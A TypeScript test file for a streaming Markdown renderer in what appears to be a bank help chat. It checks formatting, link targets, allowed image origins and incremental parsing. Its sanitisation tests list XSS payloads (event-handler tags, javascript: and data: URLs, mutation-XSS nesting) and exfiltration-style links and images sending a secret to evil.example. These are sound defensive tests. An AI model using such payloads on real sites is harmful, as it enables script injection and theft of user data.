// @vitest-environment happy-dom
import fc from 'fast-check'
import { atom } from 'nanostores'
import { options, render } from 'preact'
import { act } from 'preact/test-utils'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import type { MessageRow } from '../../src/conversation/rows.ts'
import { Growing, Markdown } from '../../src/ui/markdown.tsx'
import { createMarkdownTree, plainText } from '../../src/ui/markdown-tree.ts'
import type { MarkdownNode } from '../../src/ui/markdown-tree.ts'
import { textOf } from '../../src/protocol/parts.ts'
import { PictureOrigins } from '../../src/ui/picture-origins.ts'

const base = 'https://bank.example/help/'
let place: HTMLElement

beforeEach(() => {
  // The parser's own assertions go to the console; what they are about is asserted here.
  vi.spyOn(console, 'assert').mockImplementation(() => {})
  place = document.createElement('div')
  document.body.append(place)
})
afterEach(() => {
  render(null, place)
  place.remove()
  vi.restoreAllMocks()
})

const show = (text: string, done = true) => act(() => render(<Markdown text={text} done={done} base={base} />, place))
/** The blocks, without what holds some of them together. */
const inner = (from: Element = place) => [...from.querySelectorAll('.md > .chunk')].map(({ innerHTML }) => innerHTML).join('')
/** What a text that is not whole looks like where nothing of it was there before. */
function afresh(text: string): string {
  const other = document.createElement('div')
  act(() => render(<Markdown text={text} done={false} base={base} />, other))
  const html = inner(other)
  render(null, other)
  return html
}
const links = () => [...place.querySelectorAll('a')].map((link) => link.getAttribute('href'))

describe('what it shows', () => {
  test.each([
    ['**bold** and *slanted*', '<p><strong>bold</strong> and <em>slanted</em></p>'],
    ['# A heading', '<p class="heading">A heading</p>'],
    ['one\ntwo', '<p>one<br>two</p>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['3. c\n4. d', '<ol start="3"><li>c</li><li>d</li></ol>'],
    ['`x < y`', '<p><code>x &lt; y</code></p>'],
    ['```js\na()\n```', '<pre dir="ltr" part="code"><code>a()</code></pre>'],
    ['> quoted', '<blockquote><p>quoted</p></blockquote>'],
    ['It costs $5 and then $AUD 7', '<p>It costs $5 and then $AUD 7</p>'],
    ['`$x` and \\$y', '<p><code>$x</code> and $y</p>'],
    ['see [1] there', '<p>see [1] there</p>'],
  ])('%j', (text, html) => {
    show(text)
    expect(inner()).toBe(html)
  })

  test('a table has a head row and cells', () => {
    show('| Fee | Amount |\n|---|---|\n| Card | free |')
    expect([...place.querySelectorAll('th')].map((cell) => cell.textContent?.trim())).toEqual(['Fee', 'Amount'])
    expect([...place.querySelectorAll('td')].map((cell) => cell.textContent?.trim())).toEqual(['Card', 'free'])
    expect(place.querySelector('table')?.parentElement?.className).toBe('scrolls')
  })

  test('links of the page itself stay in the tab, others open a new one and show their host', () => {
    show('[fees](/fees) and [docs](https://docs.example/a) and https://docs.example/b.')
    const [own, other, raw] = place.querySelectorAll('a')
    expect(own?.href).toBe('https://bank.example/fees')
    expect(own?.target).toBe('')
    expect(other?.target).toBe('_blank')
    expect(other?.rel).toBe('noopener noreferrer nofollow ugc')
    expect(place.textContent).toContain('docs (docs.example)')
    expect(raw?.getAttribute('href')).toBe('https://docs.example/b')
    expect(raw?.textContent).toBe('https://docs.example/b')
  })

  test.each([
    ['See <https://docs.example/a?b=1>, please.', 'https://docs.example/a?b=1', 'See https://docs.example/a?b=1, please.'],
    ['<https://docs.example>', 'https://docs.example/', 'https://docs.example'],
    ['- <https://docs.example/a> too', 'https://docs.example/a', 'https://docs.example/a too'],
    ['our help (https://docs.example/a).', 'https://docs.example/a', 'our help (https://docs.example/a).'],
    ['https://docs.example/A_(b)', 'https://docs.example/A_(b)', 'https://docs.example/A_(b)'],
    ['(https://docs.example/A_(b)), or', 'https://docs.example/A_(b)', '(https://docs.example/A_(b)), or'],
    ['is it https://docs.example/a?!', 'https://docs.example/a', 'is it https://docs.example/a?!'],
    ['a <https://docs.example/a is open', 'https://docs.example/a', 'a <https://docs.example/a is open'],
    ['a https://docs.example/a>b', 'https://docs.example/a', 'a https://docs.example/a>b'],
  ])('%j links what is an address', (text, href, words) => {
    show(text)
    expect([...place.querySelectorAll('a')].map((link) => link.href)).toEqual([href])
    expect(place.textContent).toBe(words)
    expect(plainText(text)).toBe(words)
  })

  test.each([['`<https://docs.example>`'], ['```\n(https://docs.example)\n```'], ['<javascript:alert(1)>'], ['a <h1>b</h1> (h)']])('%j links nothing', (text) => {
    show(text)
    expect(place.querySelectorAll('a')).toHaveLength(0)
    expect(plainText(text)).toContain(text.replaceAll(/[`\n]/g, ''))
  })
})

describe('pictures', () => {
  const text = '![a map](https://img.example/map.png) and ![a trap](https://evil.example/x.png)'
  const allow = (origins: readonly string[], words: string, done = true) =>
    act(() => render(<PictureOrigins.Provider value={origins}><Markdown text={words} done={done} base={base} /></PictureOrigins.Provider>, place))

  test('come only from where they may', () => {
    allow(['https://img.example'], text)
    const images = [...place.querySelectorAll('img')]
    expect(images.map(({ src, alt }) => [src, alt])).toEqual([['https://img.example/map.png', 'a map']])
    expect(images[0]?.getAttribute('referrerpolicy')).toBe('no-referrer')
    expect(place.textContent).toBe(' and a trap')
  })

  test('are not asked for at an address that is not whole', () => {
    for (let end = 1; end < text.indexOf(') and'); end += 1) {
      allow(['https://img.example'], text.slice(0, end), false)
      expect(place.querySelector('img')).toBeNull()
    }
  })
})

describe('code', () => {
  const copy = { copyCode: 'Copy', copied: 'Copied' }
  const code = (text: string, done = true) => act(() => render(<Markdown text={text} done={done} base={base} copy={copy} />, place))
  const fence = '```js\nconst a = 1\n\nconst b = "<b>"\n```'

  test('can be copied once it is whole, and says so', async () => {
    const taken: string[] = []
    vi.spyOn(navigator.clipboard, 'writeText').mockImplementation(async (text) => void taken.push(text))
    code(fence.slice(0, 20), false)
    expect(place.querySelector('button')).toBeNull()
    const pre = place.querySelector('pre')
    code(fence)
    expect(place.querySelector('pre')).toBe(pre)
    await act(async () => place.querySelector('button')?.click())
    expect(taken).toEqual(['const a = 1\n\nconst b = "<b>"'])
    expect(place.querySelector('button')?.textContent).toBe('Copied')
  })

  test('is selected where there is no clipboard', async () => {
    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('Not allowed.'))
    code(fence)
    await act(async () => place.querySelector('button')?.click())
    expect(getSelection()?.toString()).toContain('const a = 1')
    expect(place.querySelector('button')?.textContent).toBe('Copy')
  })
})

describe('what it never does', () => {
  const secret = 'SECRET'.repeat(60)
  const payloads = [
    '<img src=x onerror=window.__x=1>', '<svg/onload=window.__x=1>', '<iframe srcdoc="<script>1</script>">', '"><script>window.__x=1</script>',
    '<details open ontoggle=window.__x=1>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">',
    '<form id=attributes><input name=nodeName>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<style>*{background:url(https://evil.example)}</style>',
    '![a](https://evil.example/?q=SECRET)', '![a][r]\n\n[r]: https://evil.example/?q=SECRET', '<https://evil.example/?q=SECRET>',
    '<link rel=prefetch href=//evil.example>',
    '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\tscript:alert(1))', '[a](\u0001javascript:alert(1))',
    '[a](data:text/html,<script>1</script>)',
    '[a](vbscript:x)', '[a](blob:https://bank.example/1)', '[a](file:///etc/passwd)', '[a](http://bank.example@evil.example/)',
    `[a](https://evil.example/?q=${secret})`,
    '![](javascript:alert(1))', '[![x](https://evil.example/i.png)](javascript:alert(1))', '[a](  javascript:alert(1))', '[a](<javascript:alert(1)>)',
  ]
  const allowed = 'DIV P STRONG EM S CODE PRE UL OL LI BLOCKQUOTE BR HR A SMALL TABLE TBODY TR TH TD SPAN'.split(' ')

  const check = () => {
    for (const element of place.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName)
      for (const { name } of element.attributes) expect(['class', 'dir', 'href', 'rel', 'target', 'title', 'start', 'part', 'tabindex']).toContain(name)
    }
    for (const href of links()) expect(href).toMatch(/^(https?:|mailto:|tel:)/)
  }

  const checkPayload = () => {
    check()
    expect((window as { __x?: number }).__x).toBeUndefined()
    expect(links().filter((href) => /@|SECRETSECRET/.test(href ?? ''))).toEqual([])
  }

  test.each(payloads)('makes nothing of %j but text', (payload) => {
    show(payload)
    checkPayload()
  })

  test.each(payloads)('nor in single characters of %j', (payload) => {
    for (let end = 1; end <= payload.length; end += 1) {
      show(payload.slice(0, end), false)
      expect(inner()).toBe(afresh(payload.slice(0, end)))
      checkPayload()
    }
    show(payload)
    checkPayload()
  })

  test('refused addresses leave their words', () => {
    show('[press](javascript:alert(1)) ![a picture](https://evil.example/p.png)')
    expect(links()).toEqual([])
    expect(place.textContent).toContain('press')
    expect(place.textContent).toContain('a picture')
  })

  test('survives any text and any nesting', () => {
    show('> '.repeat(2000) + 'deep')
    show(`${'* '.repeat(2000)}deep`)
    show(`${'['.repeat(2000)}${'**_'.repeat(1000)}`)
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      show(text)
      check()
    }), { seed: 7, numRuns: 80 })
  })
})

const plain = ({ type, href, start, checked, children }: MarkdownNode): unknown =>
  [type, href, start, checked, children.map((child) => (typeof child === 'string' ? child : plain(child)))]
const pieces = fc.constantFrom(
  '**', '*', '_', '`', '```\n', '# ', '- ', '1. ', '> ', '[a](', 'https://x.example/', ')', '\n', '\n\n', '|', '|---|\n',
  '$', '\\', '![', ']', '<br>', '<', '(', 'https://x.example/>', '~~', 'word', ' ', '🦊', '(h', 'é',
)

describe('growing', () => {
  test('any way of cutting a text gives the same tree', () => {
    fc.assert(fc.property(fc.array(pieces, { maxLength: 30 }), fc.array(fc.nat(120), { maxLength: 12 }), (parts, cuts) => {
      const text = parts.join('')
      const whole = createMarkdownTree()
      whole.feed(text)
      whole.end()
      const grown = createMarkdownTree()
      for (const cut of cuts.toSorted((a, b) => a - b)) grown.feed(text.slice(0, cut))
      grown.feed(text)
      grown.end()
      expect(plain(grown.root)).toEqual(plain(whole.root))
    }), { seed: 11, numRuns: 600 })
  })

  describe('by frames', () => {
    const author = { id: 'a', kind: 'assistant', name: '' } as const
    const said = (text: string): MessageRow =>
      ({ type: 'message', id: 'm', seq: 0, at: 0, author, parts: [{ type: 'text', text }], streaming: true })
    const frames = (ms: number) => act(() => void vi.advanceTimersByTime(ms))
    const begin = (text: string) => {
      const $row = atom<MessageRow | null>(said(text))
      act(() => render(<Growing.Provider value={$row}><Markdown text={text} done={false} base={base} /></Growing.Provider>, place))
      return $row
    }
    beforeEach(() => void vi.useFakeTimers())
    afterEach(() => void vi.useRealTimers())

    test('what is shown of a text is what a new rendering of it shows, at each frame', () => {
      const other = document.createElement('div')
      fc.assert(fc.property(fc.array(pieces, { maxLength: 20 }), (parts) => {
        let text = 'A'
        const $row = begin(text)
        for (const part of parts) {
          text += part
          $row.set(said(text))
          frames(100)
          act(() => render(<Markdown text={text} done={false} base={base} />, other))
          expect(inner()).toBe(inner(other))
          render(null, other)
        }
        render(null, place)
      }), { seed: 17, numRuns: 150 })
    })

    test('a mark that goes when an address begins behind it is not left behind', () => {
      const $row = begin('**a')
      for (const text of ['**a<', '**a<h', '**a<https://x.example/b']) {
        $row.set(said(text))
        frames(100)
      }
      expect(inner()).toBe(afresh('**a<https://x.example/b'))
    })

    test('words at the end of an element are added to those that stand there, and nothing is rendered', () => {
      const $row = begin('- one\n- **two**\n- thr')
      const node = [...place.querySelectorAll('li')].at(-1)?.firstChild
      let rendered = 0
      const { diffed = () => {} } = options
      options.diffed = (vnode) => {
        rendered += 1
        diffed(vnode)
      }
      $row.set(said('- one\n- **two**\n- three and more'))
      frames(100)
      options.diffed = diffed
      expect(place.querySelectorAll('li')[2]?.firstChild).toBe(node)
      expect(node?.textContent).toBe('three and mor')
      expect(rendered).toBe(0)
    })

    test('the first change is shown with the next frame, and those after it about twenty times in a second', () => {
      const $row = begin('a b')
      let shown = inner()
      let changes = 0
      for (let ms = 0; ms < 1000; ms += 4) {
        $row.set(said(`${textOf($row.get()?.parts ?? [])} c`))
        frames(4)
        if (inner() !== shown) changes += 1
        if (ms === 16) expect(changes).toBe(1)
        shown = inner()
      }
      expect(changes).toBeGreaterThanOrEqual(18)
      expect(changes).toBeLessThanOrEqual(22)
    })
  })

  test('a growing text gives the same elements as the whole, and keeps those that are finished', () => {
    const text = 'First **paragraph**.\n\n- one\n- two\n\nSee [the fees](/fees).'
    show(text)
    const whole = inner()
    render(null, place)
    show(text.slice(0, 24), false)
    const first = place.querySelector('p')
    for (let end = 25; end < text.length; end += 3) show(text.slice(0, end), false)
    show(text)
    expect(inner()).toBe(whole)
    expect(place.querySelector('p')).toBe(first)
  })

  test('eight blocks are held together, those of more stand in the next, and nothing stands beside them', () => {
    show(Array.from({ length: 17 }, (_, index) => `Paragraph ${index}\n\n`).join(''))
    expect([...place.querySelectorAll('.md > *')].map(({ className, children }) => [className, children.length])).toEqual([['chunk', 8], ['chunk', 8], ['chunk', 1]])
  })

  test('only what is new is parsed', () => {
    const tree = createMarkdownTree()
    tree.feed('One **two** three\n\n')
    const paragraph = tree.root.children[0] as MarkdownNode
    const children = [...paragraph.children]
    tree.feed('One **two** three\n\nFour')
    expect(tree.root.children[0]).toBe(paragraph)
    expect(paragraph.children).toEqual(children)
    expect(tree.feed('Another text')).toBe(false)
  })

  test('a delta costs the paragraph that it is in, however many there are', () => {
    const long = Array.from({ length: 100 }, (_, index) => `Paragraph **${index}**\n\n`).join('')
    show(`${long}The last`, false)
    let diffed = 0
    const { diffed: before } = options
    options.diffed = (vnode) => {
      diffed += 1
      before?.(vnode)
    }
    show(`${long}The last one`, false)
    options.diffed = before ?? (() => {})
    expect(place.querySelectorAll('p')).toHaveLength(101)
    // One for each paragraph's skipped component, and a few inside the last.
    expect(diffed).toBeLessThan(120)
  })

  test('half of a character is never shown', () => {
    const tree = createMarkdownTree()
    const text = 'a 🦊 runs'
    for (let end = 1; end <= text.length; end += 1) {
      tree.feed(text.slice(0, end))
      expect(JSON.stringify(plain(tree.root))).not.toMatch(/\\ud8/i)
    }
  })

  test('a text that does not continue the last one replaces it', () => {
    show('The first answer', false)
    show('Another **attempt**', false)
    expect(place.textContent).toBe('Another attempt')
    show('Another **attempt**')
    show('A third')
    expect(place.textContent).toBe('A third')
  })
})

test('plain text is the words without their marks', () => {
  expect(plainText('# Fees\n\n- **Card**: free\n- [Abroad](/x): $4.50')).toBe('Fees\nCard: free\nAbroad: $4.50')
})

test('a text that has just been shown whole says the same in words as one that is parsed for them', () => {
  const text = '# Fees\n\n- **Card**: free\n- <https://bank.example/fees>\n\n`a` and ![b](/c'
  const words = plainText(text)
  const tree = createMarkdownTree()
  for (let end = 1; end <= text.length; end += 1) tree.feed(text.slice(0, end))
  tree.end()
  expect(plainText(text)).toBe(words)
  const other = createMarkdownTree()
  other.feed('Another text')
  other.end()
  expect(plainText(text)).toBe(words)
})

describe('texts that never end', () => {
  test.each([['*'], ['`'], ['[a]('], ['https://x.example/'], ['!['], ['>'], ['<'], ['a@'], ['&amp;']])('%j without end holds back little', (unit) => {
    const text = unit.repeat(9000 / unit.length)
    const tree = createMarkdownTree()
    let shown = 0
    for (let end = 300; end <= text.length; end += 300) {
      tree.feed(text.slice(0, end))
      shown = end
    }
    tree.end()
    const words = (node: MarkdownNode): string => node.children.map((child) => (typeof child === 'string' ? child : words(child))).join('')
    // marks are no words, and what was taken for an address is not repeated
    expect(words(tree.root).length).toBeLessThan(shown * 1.1)
    const deepest = (node: MarkdownNode): number => 1 + Math.max(0, ...node.children.map((child) => (typeof child === 'string' ? 0 : deepest(child))))
    expect(deepest(tree.root)).toBeLessThanOrEqual(17)
  })

  test('are cut in the same places however they come', () => {
    for (const text of ['*'.repeat(2000), `a ${'`'.repeat(1500)} b`, `[a](${'x'.repeat(5000)} c`, `https://${'y.'.repeat(3000)} d`]) {
      const whole = createMarkdownTree()
      whole.feed(text)
      whole.end()
      const grown = createMarkdownTree()
      for (let end = 1; end < text.length; end += 37) grown.feed(text.slice(0, end))
      grown.feed(text)
      grown.end()
      expect(plain(grown.root)).toEqual(plain(whole.root))
    }
  })

  test('an address that is no longer than any that may be followed is whole', () => {
    const href = `https://docs.example/${'a'.repeat(2000)}`
    show(`[a](${href}) ${href}`)
    expect(links()).toEqual([href, href])
  })
})
